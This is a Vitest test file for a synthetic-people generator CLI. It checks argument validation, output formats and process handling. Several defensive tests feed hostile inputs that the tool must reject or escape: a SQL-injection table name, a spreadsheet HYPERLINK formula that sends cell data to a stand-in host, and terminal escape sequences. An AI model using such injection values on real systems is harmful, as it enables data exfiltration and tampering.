import { spawn, spawnSync } from 'node:child_process';
import { setTimeout as delay } from 'node:timers/promises';
import { describe, expect, test } from 'vitest';
import { CLI, FIXED, MANIFEST, bash, cli, run } from './support.ts';

/** Each wrong flag and the words its message must hold. */
const WRONG: [string[], RegExp][] = [
  [['--count', '-1'], /--count is a whole number from 0 to 100,000,000,000,000, not “-1”\./],
  [['--count=-1'], /--count is a whole number from 0 to 100,000,000,000,000, not “-1”\./],
  [['--count', '1.5'], /--count “1\.5” is not a whole number written in digits/],
  [['--count', '1e12'], /--count “1e12” is not a whole number written in digits/],
  [['--count', 'ten'], /--count “ten” is not a whole number written in digits/],
  [['--count', '1,000'], /--count “1,000” is not a whole number written in digits/],
  [['--count', '100000000000001'], /--count is a whole number .*, not “100000000000001”\./],
  [['--count'], /--count needs a value\./],
  [
    ['--noise', '1.5'],
    /^random-american-generator: --noise is a rate from 0 to 1 \(0\.05\), default, or TYPE=RATE,\.\.\. \(typo=0\.02,nickname=0\.01\), not “1\.5”\.\n/,
  ],
  [
    ['--noise', 'tyop=0.1'],
    /^random-american-generator: --noise has no type “tyop”: the types are blank, /,
  ],
  [
    ['--noise', '__proto__=0.1'],
    /^random-american-generator: --noise has no type “__proto__”: the types are blank, /,
  ],
  [
    ['--noise', 'typo=0.1,typo=0.5'],
    /^random-american-generator: --noise gives “typo” twice: give each type once\.\n/,
  ],
  [
    ['--noise', 'typo=2'],
    /^random-american-generator: --noise's typo is a rate from 0 to 1, not 2\.\n/,
  ],
  [
    ['--duplicates', '-1'],
    /^random-american-generator: --duplicates is the mean count of extra records a person, from 0 to 1, not “-1”\.\n/,
  ],
  [['--start', '-5'], /--start is a whole number from 0 to 99,999,999,999,999, not “-5”\./],
  [['--start', 'x'], /--start “x” is not a whole number/],
  [
    ['--start', '99999999999995', '--count', '10'],
    /--start 99999999999995 with --count 10 goes past the last index, 99999999999999\./,
  ],
  [['--seed', '4294967296'], /--seed is a whole number from 0 to 4,294,967,295, not “4294967296”/],
  [['--seed', '-1'], /--seed is a whole number from 0 to 4,294,967,295, not “-1”/],
  [['--seed', '1.5'], /--seed “1\.5” is not a whole number/],
  [['--seed', 'forty-two'], /--seed “forty-two” is not a whole number/],
  [['--format', 'xml'], /--format is one of csv, json, ndjson, sql, not “xml”\./],
  [
    ['--as-of', '2026-02-30'],
    /--as-of is a real day from 1081-01-01 to 9999-12-31, written YYYY-MM-DD, not “2026-02-30”\./,
  ],
  // Whole years from 1081, the first whose every day gives four-digit birth years (and before
  // year 100, Date.UTC reads years as 19xx).
  [['--as-of', '0100-03-01'], /--as-of is a real day from 1081-01-01 .*, not “0100-03-01”/],
  [['--as-of', '1080-12-31'], /--as-of is a real day from 1081-01-01 .*, not “1080-12-31”/],
  [['--as-of', '11/22/2026'], /--as-of is a real day .*, not “11\/22\/2026”/],
  [[...FIXED, '--shard', '0/4'], /--shard is K\/N, such as 3\/8: K from 1 to N .*, not “0\/4”\./],
  [[...FIXED, '--shard', '5/4'], /--shard is K\/N, .*, not “5\/4”/],
  [[...FIXED, '--shard', '1/0'], /--shard is K\/N, .*, not “1\/0”/],
  [[...FIXED, '--shard', 'half'], /--shard is K\/N, .*, not “half”/],
  // Past 2^53 a number is not the one written: 2^53 + 1 read as 2^53 passed for the last part.
  [
    [...FIXED, '--shard', '9007199254740993/9007199254740992'],
    /--shard is K\/N, such as 3\/8: K from 1 to N \(whole numbers up to 9,007,199,254,740,991\), not “9007199254740993\/9007199254740992”\./,
  ],
  [['--shard', '1/2', '--as-of', '2026-11-22'], /--shard needs --seed and --as-of/],
  [['--shard', '1/2', '--seed', '1'], /--shard needs --seed and --as-of/],
  [['--format', 'sql', '--table', '1people'], /--table “1people” is not a plain SQL name/],
  [['--format', 'sql', '--table', 'people; DROP TABLE x'], /is not a plain SQL name/],
  [
    ['--format', 'sql', '--table', 'select'],
    /--table “select” is a word SQL reserves: PostgreSQL, SQLite or MariaDB would not/,
  ],
  [['--format', 'sql', '--table', 'User'], /--table “User” is a word SQL reserves/],
  [
    ['--format', 'sql', '--table', 'sqlite_people'],
    /--table “sqlite_people” starts with sqlite_, which SQLite keeps/,
  ],
  [
    ['--format', 'sql', '--table', 'pg_class'],
    /--table “pg_class” starts with pg_, which PostgreSQL keeps for its catalog: pg_class is one/,
  ],
  [['--format', 'sql', '--table', 'PG_Settings'], /--table “PG_Settings” starts with pg_/],
  [['--format', 'sql', '--table', 'pg_people'], /--table “pg_people” starts with pg_, which/],
  [['--format', 'toString'], /--format is one of csv, json, ndjson, sql, not “toString”/],
  [['--format', '__proto__'], /--format is one of csv, json, ndjson, sql, not “__proto__”/],
  [['--table', 'staff'], /--table names the table of --format sql; csv has none/],
  [['--table', 'staff', '--format', 'json'], /--table names the table .*; json has none/],
  [
    ['--columns', 'id,first_name,email'],
    /--columns has no column “first_name”: the columns are id, firstName, lastName, gender, streetAddress, city, state, zipCode, birthdate, stateCode, age, phone, email, householdId, relationship, origin\./,
  ],
  [['--columns', ''], /--columns has no column “”: the columns are id, firstName, /],
  [['--columns', 'id,city,id'], /--columns names “id” twice: name it once\./],
  [['--columns'], /--columns needs a value\./],
  [['--date-format', 'eu'], /--date-format is one of us, iso, not “eu”\./],
  [['--column-case', 'kebab'], /--column-case is one of camel, snake, not “kebab”\./],
  [['--bogus'], /--bogus is not an option of random-american-generator\./],
  [['people'], /“people” is not an option: every option starts with --/],
  [['--state', 'New', 'York'], /“York” is not an option: .* \(quote a value with spaces/],
  [['--no-header=yes'], /--no-header takes no value\./],
  [['--seed'], /--seed needs a value\./],
  [['--state', 'Texas', '--state', 'Ohio'], /--state is given twice: give it once\./],
  [['--seed', '5', '--seed', '6'], /--seed is given twice/],
  [['--city', 'Chicago', '--state', 'Texas'], /--city: City “Chicago” is not in Texas/],
  [['--state', 'Narnia'], /--state: State “Narnia” is not one of the 50 states/],
  [['--city', 'Atlantis'], /--city: City “Atlantis” is not a city we know in the 50 states\./],
  // Read as typed (Hau‘ula), and then not in Texas.
  [
    ['--city', 'hauula', '--state', 'Texas'],
    /--city: City “Hau‘ula” is not in Texas \(we know it in Hawaii\)/,
  ],
  [['--zip-code', '1234'], /--zip-code: Zip Code “1234” is not five digits/],
  [['--zip-code', '60601', '--state', 'Texas'], /--zip-code: Zip Code 60601 is in Illinois/],
  [['--gender', 'other'], /--gender: Gender “other” is neither female nor male/],
  [['--state', ''], /--state: State is blank/],
  [
    ['--birthdate', '2/30/1990'],
    /--birthdate: Birthdate “2\/30\/1990” is not a day of the calendar\./,
  ],
  [
    ['--first-name', 'Mary', '--gender', 'male'],
    /--gender: Gender male does not go with First Name “Mary”: .* give it to girls only/,
  ],
  [
    ['--first-name', 'mary', '--gender', 'male'],
    /--gender: Gender male does not go with First Name “Mary”: .* give it to girls only/,
  ],
  // 17 and 81 on the as-of date: one day either side of what is allowed.
  [
    ['--first-name', 'nevaeh', '--birthdate', '1950-06-01'],
    /^random-american-generator: --birthdate: Birthdate 6\/1\/1950 does not go with First Name “Nevaeh”: the Social Security names list it for no girl born in the 1950s\.\nTry --help\.\n$/,
  ],
  [
    ['--birthdate', '6/1/1950', '--first-name', 'Nevaeh', '--gender', 'female'],
    /^random-american-generator: --birthdate: Birthdate 6\/1\/1950 does not go with First Name “Nevaeh”: the Social Security names list it for no girl born in the 1950s\.\nTry --help\.\n$/,
  ],
  [
    ['--birthdate', '11/23/2008', '--as-of', '2026-11-22'],
    /--birthdate: Birthdate 11\/23\/2008 makes an age of 17 on 11\/22\/2026: people are 18 to 80/,
  ],
  [
    ['--birthdate', '11/22/1945', '--as-of', '2026-11-22'],
    /--birthdate: Birthdate 11\/22\/1945 makes an age of 81 on 11\/22\/2026/,
  ],
  [
    ['--last-name', '=HYPERLINK("http://x.example/?d="&A1,"Click")'],
    /--last-name: Last Name starts with “=”, which a spreadsheet reads as the start of a formula\./,
  ],
  [['--street-address', '1 Main St\\'], /--street-address: Street Address holds a backslash/],
  // Not trimmed away: a spreadsheet reads a cell that starts so as a formula.
  [
    ['--last-name', '\tTab'],
    /--last-name: Last Name starts with a tab, which a spreadsheet reads as the start of a formula\./,
  ],
  [['--last-name', '  \tTab'], /--last-name: Last Name starts with a tab/],
  [['--city', '\rChicago'], /--city: City starts with a carriage return, which a spreadsheet/],
  [['--state', '\tTexas'], /--state: State starts with a tab, which a spreadsheet/],
  [
    ['--last-name', '\u0301\u0308'],
    /--last-name: Last Name is only accents or other combining marks, with no letter to sit on\./,
  ],
];

describe('a wrong flag exits 2, says what is wrong on stderr, writes nothing on stdout', () => {
  test.each(WRONG)('%j', (args, message) => {
    const result = cli(args);
    expect(String(result.stderr)).toMatch(message);
    expect(String(result.stderr)).toMatch(/Try --help\.\n$/);
    expect(result.stdout.length).toBe(0);
    expect(result.status).toBe(2);
  });

  test('the first as-of day accepted gives birthdates of four-digit years, aged 18 to 80', () => {
    const rows = String(run(['--count', '300', '--seed', '1', '--as-of', '1081-01-01']))
      .trimEnd()
      .split('\r\n')
      .slice(1)
      .map((line) => line.split(','));
    expect(rows).toHaveLength(300);
    for (const row of rows) {
      expect(row[7]).toMatch(/^\d{1,2}\/\d{1,2}\/1\d{3}$/);
      expect(Number(row[9])).toBeGreaterThanOrEqual(18);
      expect(Number(row[9])).toBeLessThanOrEqual(80);
    }
  });

  test('the birthdates at the edges of 18 and 80 are accepted', () => {
    for (const birthdate of ['11/22/2008', '11/23/1945']) {
      const rows = String(run(['--count', '3', ...FIXED, '--birthdate', birthdate]))
        .trimEnd()
        .split('\r\n')
        .slice(1);
      expect(rows).toHaveLength(3);
      for (const row of rows) expect(row.split(',')[7]).toBe(birthdate);
    }
  });
});

describe('a range made alone', () => {
  test.each(['csv', 'ndjson'])(
    '--start 500 --count 10 is rows 500 to 509 of a longer run (%s)',
    (format) => {
      const lines = (args: string[]) =>
        String(run([...FIXED, '--format', format, '--no-header', ...args])).split('\n');
      const long = lines(['--count', '600']);
      const part = lines(['--start', '500', '--count', '10']);
      expect(part.pop()).toBe(''); // the text after the last line break
      expect(part).toHaveLength(10);
      expect(part).toEqual(long.slice(500, 510));
    },
  );

  test('the SQL header says which people, from which seed and as-of date', () => {
    const sql = String(run([...FIXED, '--format', 'sql', '--start', '500', '--count', '10']));
    expect(sql.split('\n')[0]).toBe(
      `-- people 500 to 509 made by ${MANIFEST.name} ${MANIFEST.version} with seed 42 as of 2026-11-22`,
    );
  });
});

describe('how it behaves in a pipeline', () => {
  test('`| head -1` ends the run quietly: exit 0, nothing on stderr', () => {
    const result = bash('"$NODE" "$CLI" --count 1000000 --seed 1 --as-of 2026-11-22 | head -1');
    expect(result.stderr).toBe('');
    expect(result.status).toBe(0);
    expect(String(result.stdout)).toMatch(/^firstName,lastName,gender,/);
  });

  test('a failed write (a full disk) is said in one line: exit 1, no stack trace', () => {
    const result = bash('"$NODE" "$CLI" --count 10 --seed 1 --as-of 2026-11-22 > /dev/full');
    expect(result.stderr).toMatch(
      /^random-american-generator: cannot write the output: ENOSPC[^\n]*\n$/,
    );
    expect(result.status).toBe(1);
  });

  test('no progress on stderr when stderr is not a terminal', () => {
    const result = cli(['--count', '20000', ...FIXED]);
    expect(result.status).toBe(0);
    expect(String(result.stderr)).toBe('');
    expect(String(result.stdout).split('\r\n')).toHaveLength(20002);
  });

  // `script` (util-linux) gives the run a terminal: the progress is there, so the test above
  // can fail.
  test('progress on stderr when stderr is a terminal', () => {
    const result = spawnSync(
      'script',
      ['-qec', `"${process.execPath}" dist/cli.js --count 12000 --seed 1 >/dev/null`, '/dev/null'],
      { cwd: new URL('..', import.meta.url), encoding: 'utf8' },
    );
    expect(result.status).toBe(0);
    expect(result.stdout).toContain('12,000 of 12,000 people');
  });

  test('without --seed it picks one, says it on stderr, and that seed makes the same bytes', () => {
    const first = cli(['--count', '5', '--as-of', '2026-11-22']);
    expect(first.status).toBe(0);
    const seed =
      /seed (\d+) \(pass --seed \1 --as-of 2026-11-22 to make the same people again\)/.exec(
        String(first.stderr),
      )?.[1];
    expect(seed).toBeDefined();
    const again = run(['--count', '5', '--as-of', '2026-11-22', '--seed', String(seed)]);
    expect(again.equals(first.stdout)).toBe(true);
  });
});

describe('--help and --version', () => {
  test('--help names every flag and the as-of date, today’s by default', () => {
    const before = new Date();
    const text = String(run(['--help']));
    const after = new Date();
    const day = (date: Date) =>
      [date.getFullYear(), date.getMonth() + 1, date.getDate()]
        .map((part) => String(part).padStart(2, '0'))
        .join('-');
    const today = new RegExp(`default: today, (${day(before)}|${day(after)})\\)`);
    expect(text).toMatch(today);
    expect(text).toMatch(/--as-of DATE +the day ages count from, YYYY-MM-DD/);
    for (const flag of ['count', 'start', 'format', 'seed', 'shard', 'no-header', 'table']) {
      expect(text).toContain(`--${flag}`);
    }
    expect(text).toMatch(/^ {2}--columns LIST +the columns, in order/m);
    expect(text).toMatch(/^ {2}--date-format us\|iso +birthdates as 9\/3\/1976/m);
    expect(text).toMatch(/^ {2}--column-case camel\|snake +column names as firstName/m);
    // Every column a file may have, however the lines wrap.
    expect(text.replaceAll(/\s+/g, ' ')).toContain(
      'from id, firstName, lastName, gender, streetAddress, city, state, zipCode, birthdate, stateCode, age, phone, email, householdId, relationship, origin (id:',
    );
    for (const flag of ['first-name', 'last-name', 'gender', 'street-address', 'city']) {
      expect(text).toMatch(new RegExp(`^  --${flag} VALUE +every person's`, 'm'));
    }
  });

  test('--version prints the package’s version', () => {
    expect(String(run(['--version']))).toBe(`${MANIFEST.version}\n`);
  });
});

describe('field flags are read as the page’s editors read typing', () => {
  /** The rows' values of one column, as a set. */
  const column = (args: string[], name: string) => {
    const [header = '', ...rows] = String(run(['--count', '20', ...FIXED, ...args]))
      .trimEnd()
      .split('\r\n');
    const at = header.split(',').indexOf(name);
    return new Set(rows.map((row) => row.split(',')[at]));
  };

  test.each([
    [['--first-name', 'mary'], 'firstName', 'Mary'],
    [['--state', 'tx'], 'state', 'Texas'],
    [['--city', 'chicago'], 'city', 'Chicago'],
    [['--city', 'chicago'], 'state', 'Illinois'],
    [['--city', 'saint louis', '--state', 'mo'], 'city', 'St. Louis'],
    [['--birthdate', '1990-01-02'], 'birthdate', '1/2/1990'],
    [['--gender', 'Female'], 'gender', 'female'],
    [['--zip-code', '78701-1234'], 'zipCode', '78701'],
  ])('%j: every %s is %s', (args, name, value) => {
    expect(column(args, name)).toEqual(new Set([value]));
  });

  test('--help says so', () => {
    expect(String(run(['--help']))).toMatch(/Field\nflags are read as typed: --state tx is Texas/);
  });
});

test('--columns, --date-format and --column-case write the columns chosen, id the index in the seed', () => {
  // People 3 and 4 of seed 42 (golden/5.1.0/seed-42.csv), the second of two parts of 2 to 4.
  const args = ['--start', '2', '--count', '3', '--shard', '2/2', '--column-case', 'snake'];
  const chosen = ['--columns', 'id,lastName,birthdate,stateCode', '--date-format', 'iso'];
  expect(String(run([...FIXED, ...args, ...chosen]))).toBe(
    '3,Medlin,1964-06-11,PA\r\n4,Stevens,1959-11-27,OR\r\n',
  );
  expect(String(run([...FIXED, '--count', '1', ...chosen, '--column-case', 'snake']))).toBe(
    'id,last_name,birthdate,state_code\r\n0,Darcy,1976-09-03,MN\r\n',
  );
});

test('--columns …,origin writes each person’s Census group where named, the same with --jobs 2', () => {
  const names = [
    'White',
    'Black or African American',
    'Asian or Pacific Islander',
    'American Indian and Alaska Native',
    'Two or More Races or Some Other Race',
    'Hispanic or Latino',
  ];
  const args = [...FIXED, '--count', '40', '--columns', 'id,origin,lastName'];
  const text = String(run(args));
  const [header, ...rows] = text.trimEnd().split('\r\n');
  expect(header).toBe('id,origin,lastName');
  expect(rows).toHaveLength(40);
  for (const row of rows) expect(names).toContain(row.split(',')[1]);
  expect(String(run([...args, '--jobs', '2']))).toBe(text);
  // Households and noisy records take it too.
  const members = String(run([...FIXED, '--households', '--count', '3', '--columns', 'origin']));
  expect(members.split('\r\n')[0]).toBe('origin');
  const records = String(run([...args, '--noise', '0.1', '--format', 'ndjson']));
  expect(Object.keys(JSON.parse(records.split('\n')[0] ?? '') as object)).toEqual([
    'recordId',
    'personId',
    'origin',
    'lastName',
  ]);
});

test('--households with --noise and --duplicates writes records of members, the truth first', () => {
  // The library's pinned sample (householdNoise.test.ts): the Speakmans of Ozark first.
  const lines = String(
    run([...FIXED, '--households', '--count', '3', '--noise', '0.1', '--duplicates', '0.5']),
  ).split('\r\n');
  expect(lines.slice(0, 2)).toEqual([
    'recordId,personId,firstName,lastName,gender,streetAddress,city,state,zipCode,birthdate,stateCode,age,phone,email,householdId,relationship',
    '0,0,Derek,Speakman,female,6615 Rich Street,Qzark,Missouri,,10/15/1983,,43,,derek.speakman37@example.net,0,householder',
  ]);
  expect(lines).toHaveLength(1 + 10 + 1);
});

test('--count 0 writes the file’s head alone, as the library’s count: 0 does', () => {
  expect(String(run(['--count', '0', ...FIXED]))).toBe(
    'firstName,lastName,gender,streetAddress,city,state,zipCode,birthdate,stateCode,age,phone,email\r\n',
  );
});

describe('a value a message echoes is escaped and cut short, for every flag', () => {
  // ESC ] 0 ; ... BEL sets a terminal's title; ESC [ 2 J clears the screen; then 10,000 more.
  const hostile = `\u001b]0;owned\u0007\u001b[2J\n${'x'.repeat(10_000)}`;
  test.each([
    [['--format', hostile]],
    [['--count', hostile]],
    [['--seed', hostile]],
    [['--start', hostile]],
    [['--as-of', hostile]],
    [[...FIXED, '--shard', hostile]],
    [['--format', 'sql', '--table', hostile]],
    [[`--${hostile}`]],
    [[hostile]],
  ])('%#', (args) => {
    const result = cli(args);
    const stderr = String(result.stderr);
    expect(result.status).toBe(2);
    // Nothing but printable text and the line breaks between messages.
    expect(stderr.replaceAll('\n', '')).not.toMatch(/\p{Cc}/u);
    // Escaped, so a reader sees what was typed.
    expect(stderr).toMatch(/\\x1B\]0;owned\\x07\\x1B\[2J/);
    for (const line of stderr.split('\n')) expect(line.length).toBeLessThan(300);
  });
});

describe('where stdout and stderr cannot be written', () => {
  // The pipe's reader has ended before the command line starts: its first write fails. Bash
  // 5.2's `wait` on a process substitution says -1 (exit 255 under -e) about one time in thirty
  // when the reader was reaped before it asked, and the reader is then gone as well.
  const intoClosedPipe = (args: string) =>
    bash(`exec 3> >(true); wait $! || true; "$NODE" "$CLI" ${args} >&3`);

  test.each(['--help', '--version', '--count 5 --seed 1 --as-of 2026-11-22'])(
    '%s into a closed pipe ends quietly: exit 0, nothing on stderr',
    (args) => {
      const result = intoClosedPipe(args);
      expect(result.stderr).toBe('');
      expect(result.status).toBe(0);
    },
  );

  test.each(['--help', '--version'])('%s onto a full disk says so in one line: exit 1', (args) => {
    const result = bash(`"$NODE" "$CLI" ${args} > /dev/full`);
    expect(result.stderr).toMatch(
      /^random-american-generator: cannot write the output: ENOSPC[^\n]*\n$/,
    );
    expect(result.status).toBe(1);
  });

  test('a full stderr does not fail a run: the seed notice is let be', () => {
    const result = bash('"$NODE" "$CLI" --count 5 --as-of 2026-11-22 2>/dev/full');
    expect(result.status).toBe(0);
    expect(String(result.stdout).split('\r\n')).toHaveLength(7);
  });
});

describe('the progress line', () => {
  const cwd = new URL('..', import.meta.url);

  test('is not shown when stdout is the same terminal: the rows are the progress', () => {
    const result = spawnSync(
      'script',
      [
        '-qec',
        `"${process.execPath}" dist/cli.js --count 12000 --seed 1 --as-of 2026-11-22`,
        '/dev/null',
      ],
      { cwd, encoding: 'utf8', maxBuffer: 1 << 26 },
    );
    expect(result.status).toBe(0);
    expect(result.stdout).toContain('firstName,lastName');
    expect(result.stdout).not.toMatch(/of 12,000 people/);
  });

  test('Ctrl-C ends the progress line, then the run by the signal: the shell stops too', async () => {
    // A terminal (script, util-linux) whose input is this test: Ctrl-C is sent as a user types it.
    // The shell goes on after a command that exited by itself, even with 130; after one that
    // SIGINT ended, it stops, as it does for a loop or a script.
    const child = spawn(
      'script',
      [
        '-qfec',
        `bash -c '"${process.execPath}" dist/cli.js --count 99999999999999 --seed 1 --as-of 2026-11-22 >/dev/null; echo went on'`,
        '/dev/null',
      ],
      { cwd, stdio: ['pipe', 'pipe', 'inherit'] },
    );
    let shown = '';
    const exited = new Promise<number | null>((resolve) => child.on('exit', resolve));
    child.stdout.on('data', (data: Buffer) => {
      const first = !/ people/.test(shown);
      shown += String(data);
      if (first && / people/.test(shown)) child.stdin.write('\u0003');
    });
    expect(await exited).toBe(130);
    // The terminal echoes ^C; the line then ends, where before the prompt ran on after it.
    expect(shown).toMatch(/ of 99,999,999,999,999 people(\^C)?\r\n$/);
    expect(shown).not.toContain('went on');
  });
});

describe('when the process that started it is gone', () => {
  // A supervisor signals the process it started (here sh, as npx's shell or a container's), and
  // that one ends without passing the signal on.
  test.each([
    ['writing to a file', '>/dev/null'],
    ['writing to a pipe no one reads', '| sleep 600 2>/dev/null'],
  ])('%s, it ends too', async (_, output) => {
    // No --seed: its notice on stderr says it has started. `; true`: sh waits, not execs.
    const parent = spawn(
      'sh',
      ['-c', `"$NODE" "$CLI" --count 99999999999999 --as-of 2026-11-22 ${output}; true`],
      {
        env: { ...process.env, NODE: process.execPath, CLI },
        stdio: ['ignore', 'ignore', 'pipe'],
        detached: true,
      },
    );
    const group = parent.pid ?? 0;
    try {
      let said = '';
      // stderr ends when every process holding it has: sh and the command line.
      const ended = new Promise<void>((resolve) => parent.stderr.on('end', resolve));
      await new Promise<void>((resolve) =>
        parent.stderr.on('data', (data: Buffer) => {
          said += String(data);
          if (/seed \d+/.test(said)) resolve();
        }),
      );
      process.kill(group, 'SIGTERM');
      // It looks for its parent every second; a minute is for a machine busy with other work.
      const gone = await Promise.race([ended.then(() => true), delay(60_000, false)]);
      expect(gone, 'the command line still runs a minute after its parent ended').toBe(true);
      expect(said).toMatch(/^random-american-generator: seed \d+ /);
    } finally {
      // What is left of its process group (the sleep; the command line, if the test failed).
      try {
        process.kill(-group, 'SIGKILL');
      } catch {
        // Nothing left.
      }
    }
  });
});
